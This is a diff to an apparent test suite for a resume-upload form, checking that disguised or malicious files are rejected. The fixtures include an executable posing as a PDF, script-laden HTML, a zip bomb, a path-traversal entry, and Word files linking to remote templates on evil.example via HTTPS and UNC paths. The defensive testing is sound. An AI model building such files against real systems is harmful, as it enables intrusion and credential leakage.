@@ -6,10 +6,13 @@ import {
   relationTo,
   withUnpackedSize,
 } from '@/__tests__/support/resume-files';
+import { RESUME_MESSAGES } from '@/lib/forms/form-messages';
 import { multipart, PERSON, postForm } from '../support/world/raw-post';
 import { expect, test } from '../support/test';
 
-const TYPE = 'Resume must be a PDF or Word document';
+const TYPE = RESUME_MESSAGES.type;
+/** A true sentence: it is a Word document, but it would load something from elsewhere when it is opened. */
+const LINKED = RESUME_MESSAGES.linked;
 
 test.beforeEach(async ({ world }) => {
   await world.platform.heal();
@@ -20,7 +23,7 @@ test('files that are not what they claim are refused with the text, and not forw
   world,
 }) => {
   const large = docxFile({ more: { 'word/large.xml': 'x'.repeat(20_000_000) } });
-  const files: readonly (readonly [string, Uint8Array])[] = [
+  const files: readonly (readonly [string, Uint8Array, string?])[] = [
     ['program.pdf', Buffer.from('MZ\u0090\u0000\u0003 This program cannot be run', 'latin1')],
     ['page.pdf', Buffer.from('<!doctype html><script>alert(1)</script>')],
     ['encrypted.docx', oleFile(['Root Entry', 'EncryptedPackage', 'EncryptionInfo'])],
@@ -29,19 +32,19 @@ test('files that are not what they claim are refused with the text, and not forw
     ['bomb.docx', withUnpackedSize(docxFile(), 1, 0x7f_ff_ff_ff)],
     ['out.docx', docxFile({ more: { '../../out.xml': 'x' } })],
     ['markup.pdf', Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdfFile()])],
-    ['template.docx', docxPointingTo(relationTo('https://evil.example/t.dotm'))],
-    ['server.docx', docxPointingTo(relationTo('\\\\evil.example\\t.dotm'))],
-    ['picture.docx', docxPointingTo(relationTo('\\\\evil.example\\a.png', 'image'))],
+    ['template.docx', docxPointingTo(relationTo('https://evil.example/t.dotm')), LINKED],
+    ['server.docx', docxPointingTo(relationTo('\\\\evil.example\\t.dotm')), LINKED],
+    ['picture.docx', docxPointingTo(relationTo('\\\\evil.example\\a.png', 'image')), LINKED],
     ['lying.docx', withUnpackedSize(large, 2, 10, true)],
     ['cut.docx', docxFile().slice(0, -30)],
     ['empty.pdf', new Uint8Array()],
   ];
-  for (const [name, bytes] of files) {
+  for (const [name, bytes, said = TYPE] of files) {
     const body = multipart(PERSON, { name, bytes: Buffer.from(bytes) });
     const { status, text } = await postForm(world.site.url, body);
     expect([status, text], name).toEqual([
       422,
-      JSON.stringify({ message: TYPE, errors: { resume: TYPE } }),
+      JSON.stringify({ message: said, errors: { resume: said } }),
     ]);
   }
   expect(await world.platform.inbox()).toEqual([]);
